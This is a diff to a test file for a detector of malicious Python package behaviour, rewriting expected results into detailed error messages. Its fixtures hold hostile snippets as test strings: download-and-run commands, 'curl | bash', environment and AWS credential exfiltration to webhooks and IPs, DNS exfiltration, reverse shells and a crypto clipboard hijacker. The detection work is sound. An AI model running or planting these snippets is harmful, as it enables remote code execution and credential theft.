@@ -22,7 +22,7 @@ describe('malicious-package indicators', () => {
         'import subprocess, urllib.request\ndef a():\n    urllib.request.urlretrieve(URL, "x.csv")\ndef b():\n    subprocess.run(["ls"])',
       ],
       invalid: [
-        { code: 'import os, urllib.request\nurllib.request.urlretrieve("http://203.0.113.5/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")', lines: [3], severity: 'critical', options: SETUP },
+        { code: 'import os, urllib.request\nurllib.request.urlretrieve("http://203.0.113.5/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")', errors: [{ line: 3, column: 1, message: 'A file downloaded at line 2 is made executable at install time.' }], severity: 'critical', options: SETUP },
         { code: 'import requests, subprocess\ndef update():\n    r = requests.get(URL, timeout=5)\n    with open("u.exe", "wb") as f:\n        f.write(r.content)\n    subprocess.Popen(["u.exe"])', lines: [6], severity: 'high' },
         { code: 'from urllib.request import urlopen\nexec(urlopen("https://paste.ee/r/x").read())', lines: [2], severity: 'critical', options: INIT },
         { code: 'import os\nos.system("curl -s http://x.example/i.sh | bash")', lines: [2], options: SETUP },
@@ -39,7 +39,7 @@ describe('malicious-package indicators', () => {
         'import zlib\nraw = zlib.decompress(b)\nwith open("out", "wb") as f:\n    f.write(raw)',
       ],
       invalid: [
-        { code: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', lines: [2], severity: 'critical', options: INIT },
+        { code: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', errors: [{ line: 2, column: 1, message: 'Decoded or obfuscated data is executed as code (exec) at import time.' }], severity: 'critical', options: INIT },
         { code: 'import zlib, marshal\ncode = marshal.loads(zlib.decompress(B))\ndef run():\n    exec(code)', lines: [4], severity: 'high' },
         { code: 'import codecs\np = codecs.decode("vzcbeg bf", "rot13")\nexec(p)', lines: [3], options: SETUP },
         { code: 'eval(bytes.fromhex("7072696e74283129").decode())', lines: [1] },
@@ -59,7 +59,7 @@ describe('malicious-package indicators', () => {
         'import platform, requests\nrequests.post(URL, json={"os": platform.system()}, timeout=3)',
       ],
       invalid: [
-        { code: 'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={"e": dict(os.environ)})', lines: [2], severity: 'critical' },
+        { code: 'import os, requests\nrequests.post("https://discord.com/api/webhooks/1/x", json={"e": dict(os.environ)})', errors: [{ line: 2, column: 1, message: 'The whole process environment is sent to the network at import time (the file names a Discord webhook: discord.com).' }], severity: 'critical' },
         { code: 'import os, requests\nenv = os.environ.copy()\ndef send():\n    requests.post("https://api.example.org/c", data=env)', lines: [4], severity: 'high' },
         { code: 'import os, requests\np = os.path.expanduser("~/.aws/credentials")\nwith open(p) as f:\n    c = f.read()\nrequests.post("http://185.1.2.3/c", data=c)', lines: [5], severity: 'critical', options: SETUP },
         { code: 'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".x.oastify.com")', lines: [2], severity: 'critical', options: SETUP },
@@ -75,7 +75,7 @@ describe('malicious-package indicators', () => {
         'import subprocess\nsubprocess.Popen(["worker"], start_new_session=True)',
       ],
       invalid: [
-        { code: 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", P], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)', lines: [2], severity: 'high', options: SETUP },
+        { code: 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", P], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)', errors: [{ line: 2, column: 1, message: 'A process is started with its output discarded and in a new session at install time.' }], severity: 'high', options: SETUP },
         { code: 'import os\nos.system("nohup ./x > /dev/null 2>&1 &")', lines: [2], severity: 'high', options: INIT },
         { code: 'import os\ndef d():\n    if os.fork() == 0:\n        os.setsid()\nd()', lines: [3], severity: 'high', options: INIT },
         { code: 'import os\ndef d():\n    if os.fork() == 0:\n        os.setsid()', lines: [3], severity: 'low', options: INIT },
@@ -90,7 +90,7 @@ describe('malicious-package indicators', () => {
         'import socket, subprocess\ns = socket.create_connection(A)\nsubprocess.run(["uptime"])',
       ],
       invalid: [
-        { code: 'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/sh")', lines: [6], severity: 'critical' },
+        { code: 'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/sh")', errors: [{ line: 6, column: 1, message: 'Reverse shell: a shell whose standard streams were redirected to a socket is run at import time.' }], severity: 'critical' },
         { code: 'import subprocess\nsubprocess.call("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1", shell=True)', lines: [2] },
         { code: 'import socket, subprocess\nc = socket.create_connection(A)\nwhile True:\n    d = c.recv(1024)\n    cmd = d.decode()\n    c.sendall(subprocess.check_output(cmd, shell=True))', lines: [6] },
         { code: 'import socket, subprocess\ns = socket.socket()\ns.connect(A)\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())', lines: [4] },
@@ -101,7 +101,7 @@ describe('malicious-package indicators', () => {
     testRule('KR606', {
       valid: ['import pyperclip\ndef copy(t):\n    pyperclip.copy(t)', 'import pyperclip\ndef paste():\n    return pyperclip.paste()'],
       invalid: [
-        { code: 'import pyperclip\nA = "0x52908400098527886E0F7030069857D2E4169EE7"\ndef w():\n    if pyperclip.paste().startswith("0x"):\n        pyperclip.copy(A)', lines: [5], severity: 'high' },
+        { code: 'import pyperclip\nA = "0x52908400098527886E0F7030069857D2E4169EE7"\ndef w():\n    if pyperclip.paste().startswith("0x"):\n        pyperclip.copy(A)', errors: [{ line: 5, column: 9, message: 'The clipboard is read and rewritten in a file that holds a cryptocurrency address or address pattern when called.' }], severity: 'high' },
         { code: 'import pyperclip\ndef w():\n    t = pyperclip.paste()\n    pyperclip.copy(t.strip())', lines: [4], severity: 'medium' },
         { code: 'import pyperclip\nstolen = pyperclip.paste()', lines: [2], severity: 'medium', options: INIT },
       ],
@@ -115,7 +115,7 @@ describe('malicious-package indicators', () => {
         { code: 'import requests\nrequests.get(U, timeout=5)', options: { path: 'tool.py' } },
       ],
       invalid: [
-        { code: 'import requests\nrequests.get(U, timeout=5)\nrequests.get(V, timeout=5)', lines: [2], severity: 'medium', options: SETUP },
+        { code: 'import requests\nrequests.get(U, timeout=5)\nrequests.get(V, timeout=5)', errors: [{ line: 2, column: 1, message: 'Network access at install time (requests.get).' }], severity: 'medium', options: SETUP },
         { code: 'import subprocess\nsubprocess.run(["pkg-config", "--cflags", "x"])', lines: [2], severity: 'low', options: SETUP },
         { code: 'import urllib.request\nurllib.request.urlopen(U)', lines: [2], options: INIT },
         // PEP 517 hook of an in-tree backend.
@@ -127,7 +127,7 @@ describe('malicious-package indicators', () => {
     testRule('KR608', {
       valid: ['def send(data):\n    return data', 'def отправить(данные):\n    return данные', 'π = 3.14159'],
       invalid: [
-        { code: 'def \u0435x\u0435c(c):\n    return c\n\u0435x\u0435c(1)', lines: [1], severity: 'high' },
+        { code: 'def \u0435x\u0435c(c):\n    return c\n\u0435x\u0435c(1)', errors: [{ line: 1, column: 1, message: 'The identifier \'\\u0435x\\u0435c\' mixes Latin letters with look-alike letters of another script: it reads as a different name than the interpreter sees.' }], severity: 'high' },
         { code: 'r\u0435quests = 1', lines: [1] },
       ],
     });
